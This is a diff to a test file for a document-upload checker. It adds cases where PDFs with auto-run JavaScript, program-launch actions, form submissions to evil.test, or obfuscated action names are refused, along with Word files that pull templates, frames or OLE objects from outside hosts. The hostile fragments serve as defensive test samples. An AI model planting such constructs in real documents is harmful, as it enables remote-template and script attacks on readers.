@@ -223,17 +223,78 @@ test('a picture is at most 6000 pixels a side, and a smaller one keeps its size'
   expect(await sharp(place).metadata()).toMatchObject({ width: 31, height: 17 })
 })
 
+const onOpening = (action: string) =>
+  `4 0 obj ${action} endobj 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj`
 const doing = '4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj'
 test.each([
   ['a script at its opening', () => pdfSample(`${doing} 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj`)],
   ['a script spelt otherwise', () => pdfSample('4 0 obj[<</S/J#61vaScript/J#53(x)>>]endobj')],
   ['a program to start', () => pdfSample('4 0 obj<</S/Launch/F(calc.exe)>>endobj')],
+  ['a file elsewhere to open', () => pdfSample('4 0 obj<</S/GoToR/F(//host/x.pdf)/D[0/Fit]>>endobj')],
+  ['a form that sends itself', () => pdfSample('4 0 obj<</S/SubmitForm/F(https://evil.test)>>endobj')],
+  ['a form of scripts', () => pdfSample('4 0 obj<</XFA 5 0 R>>endobj')],
+  ['an action named elsewhere', () => pdfSample('4 0 obj<</S 5 0 R/F(calc.exe)>>endobj 5 0 obj/Launch endobj')],
+  ['an address at its opening', () => pdfSample(onOpening('<</S/URI/URI(https://evil.test)>>'))],
+  [
+    'an address after another action at its opening',
+    () => pdfSample(onOpening('<</S/Named/N/NextPage/Next[<</S/URI/URI(https://evil.test)>>]>>')),
+  ],
+  ['an address when a page is turned', () => pdfSample('4 0 obj<</AA<</O<</S/URI/URI(//host/x)>>>>>>endobj')],
   ['a file attached', () => written((pdf) => pdf.attach(Buffer.from('x'), 'x.exe', {}))],
   ['a script in a compressed object', () => written((pdf) => pdf.addJavaScript('x', 'app.alert(1)'))],
 ])('a PDF with %s is refused, with how to put it right', async (_what, content) => {
   const message =
-    'The selected PDF contains scripts or attached files - open it, choose Print, then Save as PDF, and upload that copy'
+    'The selected PDF contains scripts, attached files or actions of its own - open it, choose Print, then Save as PDF, and upload that copy'
   expect(await check(await content(), 'a.pdf')).toEqual({ ok: false, message })
+})
+
+test('a PDF with links that are pressed, and one that opens at a page, are taken', async () => {
+  const link = '4 0 obj<</Subtype/Link/A<</S/URI/URI(https://www.skillsforcare.org.uk)>>>>endobj'
+  for (const content of [
+    pdfSample(link),
+    pdfSample(onOpening('[3 0 R/Fit]')),
+    pdfSample(onOpening('<</S/GoTo/D[0/Fit]>>')),
+  ])
+    expect(await check(content, 'a.pdf')).toMatchObject({ ok: true })
+})
+
+const part = (type: string, target: string, more = '') =>
+  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${more}/></Relationships>`
+const docxWith = (name: string, content: string) =>
+  zipSample([...docxEntries().filter(([known]) => known !== name), [name, content]])
+const outside = ' TargetMode="External"'
+test.each([
+  [
+    'a template of elsewhere',
+    'word/_rels/settings.xml.rels',
+    part('attachedTemplate', 'https://evil.test/x.dotm', outside),
+  ],
+  ['a picture of elsewhere', 'word/_rels/document.xml.rels', part('image', '//host/x.png', outside)],
+  ['a frame of elsewhere', 'word/_rels/webSettings.xml.rels', part('frame', 'https://evil.test', outside)],
+  [
+    'an outside object, spelt otherwise',
+    'word/_rels/x.xml.rels',
+    part('oleObject', 'https://evil.test', " TargetMode='&#69;xternal'"),
+  ],
+  ['a page of another kind inside', 'word/_rels/document.xml.rels', part('aFChunk', 'x.html')],
+  ['an active control', 'word/_rels/document.xml.rels', part('control', 'activeX/x.xml')],
+  [
+    'relationships that declare a kind of their own',
+    'word/_rels/document.xml.rels',
+    '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>',
+  ],
+  ['relationships that cannot be read', 'word/_rels/document.xml.rels', '<Relationships><Relationship'],
+])('a document with %s is refused, with how to put it right', async (_what, name, content) => {
+  expect(await check(docxWith(name, content), 'a.docx')).toEqual({
+    ok: false,
+    message:
+      'The selected document fetches something from elsewhere or contains active parts - open it, choose Save as PDF, and upload that copy',
+  })
+})
+
+test('a document with links that are pressed is taken', async () => {
+  const link = part('hyperlink', 'https://www.skillsforcare.org.uk', outside)
+  expect(await check(docxWith('word/_rels/document.xml.rels', link), 'a.docx')).toMatchObject({ ok: true })
 })
 
 test('a PDF with a password is refused with how to save it without; one that opens without asking is taken', async () => {
